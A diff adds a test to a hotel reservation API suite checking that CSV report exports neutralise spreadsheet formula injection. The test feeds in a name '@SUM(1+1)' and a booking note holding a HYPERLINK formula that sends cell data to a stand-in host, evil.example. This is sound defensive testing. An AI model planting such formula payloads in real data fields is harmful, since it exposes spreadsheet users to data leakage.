@@ -385,6 +385,44 @@ describe('reading reservations', () => {
     const bad = await ctx.http(`/api/v1/reservations/${mine.id}/report?format=docx`, { headers: auth(ana) })
     expect(bad.status).toBe(422)
   })
+
+  it('neutralises CSV cells that a spreadsheet would run as formulas (names, notes)', async () => {
+    const eve = await ctx.http('/api/v1/auth/register', {
+      method: 'POST',
+      body: {
+        name: '@SUM(1+1)',
+        last_name: 'Formula',
+        email: 'formula@example.com',
+        phone: '+505 8899 7766',
+        identification: '161-010190-9999F',
+        city: 'Estelí',
+        country: 'Nicaragua',
+        birth_date: '1990-01-01',
+        password: 'pine-hills-2026',
+        password_confirmation: 'pine-hills-2026',
+      },
+    })
+    expect(eve.status).toBe(201)
+    const guest = { token: eve.body.token as string }
+    const note = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'
+    const booked = await book(guest, {
+      ...stay(96, 97, [{ number: 105, guest_count: 1 }]),
+      additional_description: note,
+    })
+    expect(booked.status).toBe(201)
+    const csv = await ctx.http(`/api/v1/reservations/${booked.body.data.id}/report?format=csv`, {
+      headers: auth(guest),
+    })
+    expect(csv.status).toBe(200)
+    expect(csv.text).toContain(`,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Open"")"\r\n`)
+    expect(csv.text).toContain(`,"'@SUM(1+1) Formula · formula@example.com · `)
+    // No cell (first in its line or after a separator outside quotes) begins with a formula character.
+    for (const line of csv.text.replace('\uFEFF', '').split('\r\n')) {
+      for (const cell of line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? []) {
+        expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/)
+      }
+    }
+  })
 })
 
 describe('cancel', () => {
